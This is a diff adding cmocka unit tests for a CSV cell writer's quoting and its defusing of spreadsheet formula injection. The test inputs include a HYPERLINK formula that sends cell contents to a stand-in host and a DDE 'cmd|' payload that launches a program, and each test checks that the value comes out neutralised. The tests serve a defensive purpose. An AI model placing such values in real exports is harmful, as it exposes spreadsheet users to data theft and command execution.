@@ -1,5 +1,6 @@
 /*
- * test_csv: RFC 4180 records, line numbers, and recovery after errors.
+ * test_csv: RFC 4180 records, line numbers, and recovery after errors;
+ * the cell writer and its defusing of formulas.
  */
 #include <stdarg.h>
 #include <stddef.h>
@@ -13,6 +14,7 @@
 #include <unistd.h>
 
 #include "csv.h"
+#include "util.h"
 
 /* Read the next record and check it is exactly want[0..n) at line. */
 static void
@@ -207,6 +209,65 @@ test_file(void **state)
 	csv_close(r);
 }
 
+/* One cell as csv_put_cell writes it. */
+static void
+expect_cell(const char *in, const char *want)
+{
+	struct buf b;
+
+	buf_init(&b, 0);
+	csv_put_cell(&b, in);
+	assert_string_equal(buf_cstr(&b), want);
+	buf_free(&b);
+}
+
+static void
+test_cell_plain(void **state)
+{
+	(void)state;
+	expect_cell(NULL, "");
+	expect_cell("", "");
+	expect_cell("loan bhadohi", "loan bhadohi");
+	expect_cell("a,b", "\"a,b\"");
+	expect_cell("say \"hi\"", "\"say \"\"hi\"\"\"");
+	expect_cell("two\nlines", "\"two\nlines\"");
+	expect_cell("\xe0\xa4\xb2\xe0\xa5\x8b\xe0\xa4\xa8", "\xe0\xa4\xb2\xe0\xa5\x8b\xe0\xa4\xa8");
+	/* Formula characters inside a cell are harmless. */
+	expect_cell("a=b+c-d@e", "a=b+c-d@e");
+	expect_cell("12", "12");
+	expect_cell("<5", "<5");
+}
+
+static void
+test_cell_formula(void **state)
+{
+	(void)state;
+	expect_cell("=HYPERLINK(\"http://x.example/?\"&A1,\"win\")",
+	    "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"win\"\")\"");
+	expect_cell("=1+1", "\"'=1+1\"");
+	expect_cell("+91 98765", "\"'+91 98765\"");
+	expect_cell("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\"");
+	expect_cell("-2+3", "\"'-2+3\"");
+	expect_cell("@SUM(A1)", "\"'@SUM(A1)\"");
+	expect_cell("\t=1", "\"'\t=1\"");
+	expect_cell("\r=1", "\"'\r=1\"");
+	expect_cell("\n=1", "\"'\n=1\"");
+	expect_cell("  =1", "\"'  =1\"");
+	/* Full-width = + - @, which some spreadsheets fold to ASCII. */
+	expect_cell("\xef\xbc\x9d" "1+1", "\"'\xef\xbc\x9d" "1+1\"");
+	expect_cell("\xef\xbc\x8b" "1", "\"'\xef\xbc\x8b" "1\"");
+	expect_cell("\xef\xbc\x8d" "1", "\"'\xef\xbc\x8d" "1\"");
+	expect_cell("\xef\xbc\xa0" "x", "\"'\xef\xbc\xa0" "x\"");
+	expect_cell("=", "\"'=\"");
+	expect_cell("+", "\"'+\"");
+	expect_cell("-", "\"'-\"");
+	/* A number alone computes nothing: phones stay exact. */
+	expect_cell("+919876500001", "+919876500001");
+	expect_cell("-12", "-12");
+	expect_cell("+91-", "\"'+91-\"");
+	expect_cell("-1+1", "\"'-1+1\"");
+}
+
 int
 main(void)
 {
@@ -218,6 +279,8 @@ main(void)
 		cmocka_unit_test(test_nul_and_surrogate),
 		cmocka_unit_test(test_record_cap),
 		cmocka_unit_test(test_file),
+		cmocka_unit_test(test_cell_plain),
+		cmocka_unit_test(test_cell_formula),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
